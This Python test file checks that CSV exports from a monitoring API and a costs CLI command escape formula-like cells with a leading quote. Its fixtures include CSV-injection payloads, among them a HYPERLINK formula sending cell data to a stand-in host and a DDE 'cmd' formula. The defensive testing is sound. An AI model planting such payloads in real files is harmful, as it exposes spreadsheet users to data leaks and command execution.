"""CSV exports open in a spreadsheet as data: formula-like ids and names are neutralised in
``/api/batch-monitoring?format=csv`` and ``batchkernel costs --csv`` (one shared helper)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from typer.testing import CliRunner

from plugins.cli.main import build_app
from plugins.serve import start_server
from tests.serve.conftest import TOKEN, get
from tests.serve.tenants import seed_tenants

app = build_app([])

HOSTILE = {
    0: '=HYPERLINK("http://x.test/?"&A1,"open")',
    1: "+SUM(1+1)",
    2: "@SUM(1+1)",
    3: "-2+3",
    4: "\tcmd",
    5: "\r=1+1",
}
NAMES = {5: "=cmd|' /C calc'!A0", 6: "-1+1", 7: "plain name"}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(1+1)", "'+SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("acme", "acme"),
        ("a=b", "a=b"),
        ("-0.25", "-0.25"),
        (3, 3),
        (-2.5, -2.5),
    ],
)
def test_safe_cell(value: Any, written: Any) -> None:
    from plugins.common.csvcells import safe_cell

    assert safe_cell(value) == written


def _cells(text: str) -> list[str]:
    """Every text cell of a CSV document."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_neutralised(cells: list[str]) -> None:
    """No cell starts like a formula, and every hostile value is there with its quote."""
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not cell[1:].replace(".", "").isdigit()), cell
    for value in (*HOSTILE.values(), NAMES[5], NAMES[6]):
        assert "'" + value in cells


def test_monitoring_csv_neutralises_formulas(make_kernel: Any, db_url: str) -> None:
    kernel = make_kernel(db_url, serve__tokens=[TOKEN], serve__top_companies=10)
    seed_tenants(kernel.db.engine, 8, ids=HOSTILE, names=NAMES)
    handle = start_server(kernel, "127.0.0.1", 0)
    try:
        status, _, body = get(handle.url + "/api/batch-monitoring?format=csv", TOKEN)
    finally:
        handle.stop()
    assert status == 200
    _assert_neutralised(_cells(body.decode()))


def test_costs_csv_neutralises_formulas(make_kernel: Any, db_url: str) -> None:
    kernel = make_kernel(db_url)
    seed_tenants(kernel.db.engine, 8, ids=HOSTILE, names=NAMES)
    url = kernel.db.url.render_as_string(hide_password=False)
    result = CliRunner().invoke(app, ["costs", "--csv", "--database", url])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    for value in HOSTILE.values():
        assert "'" + value in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
